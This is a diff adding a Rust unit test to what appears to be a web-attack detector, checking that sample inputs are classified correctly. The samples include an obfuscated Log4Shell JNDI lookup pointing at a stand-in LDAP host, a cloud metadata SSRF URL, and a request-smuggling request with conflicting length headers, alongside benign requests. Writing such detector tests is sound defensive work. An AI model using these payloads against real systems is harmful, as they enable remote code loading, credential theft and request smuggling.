@@ -213,6 +213,41 @@ mod tests {
     }
 
     #[test]
+    fn new_classes_and_precision_fixes_flow_into_verdicts() {
+        let out = lines(concat!(
+            r#"{"kind":"value","value":"${${lower:j}ndi:ldap://x.example/a}"}"#,
+            "\n",
+            r#"{"kind":"value","value":"http://169.254.169.254/latest/meta-data/"}"#,
+            "\n",
+            r#"{"kind":"request","method":"POST","uri":"/","headers":[["Content-Length","4"],["Transfer-Encoding","chunked"]],"body":"0\r\n\r\n"}"#,
+            "\n",
+            r#"{"kind":"request","method":"GET","uri":"/api/items","headers":[["User-Agent","curl/8.5.0"]]}"#,
+            "\n",
+            r#"{"kind":"request","method":"POST","uri":"/notes","headers":[["Content-Type","application/xml"]],"body":"<?xml version=\"1.0\"?><note><to>Tove</to><body>Don't forget me</body></note>"}"#,
+            "\n",
+        ));
+        assert!(
+            out[0]["classes"]
+                .as_array()
+                .unwrap()
+                .iter()
+                .any(|c| c == "java")
+        );
+        assert!(
+            out[0]["rules"]
+                .as_array()
+                .unwrap()
+                .iter()
+                .any(|r| r == "java.jndi-lookup")
+        );
+        assert_eq!(out[1]["class"], "ssrf");
+        assert_eq!(out[2]["classes"], serde_json::json!(["protocol"]));
+        assert_eq!(out[2]["locations"], serde_json::json!(["header"]));
+        assert_eq!(out[3]["attack"], false);
+        assert_eq!(out[4]["attack"], false);
+    }
+
+    #[test]
     fn overlong_lines_are_refused_without_buffering_them() {
         let long = format!(
             "{{\"kind\":\"value\",\"value\":\"{}\"}}\n",
